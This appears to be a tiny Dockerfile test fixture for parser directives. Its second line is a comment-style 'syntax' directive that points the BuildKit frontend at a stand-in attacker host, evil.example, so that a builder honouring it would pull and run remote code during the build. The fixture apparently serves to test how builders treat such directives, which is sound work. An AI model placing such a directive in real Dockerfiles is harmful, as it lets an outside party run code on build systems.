# dockerfile-syntax: behind a comment, where some builders still look
#Syntax = evil.example/frontend
FROM nginx
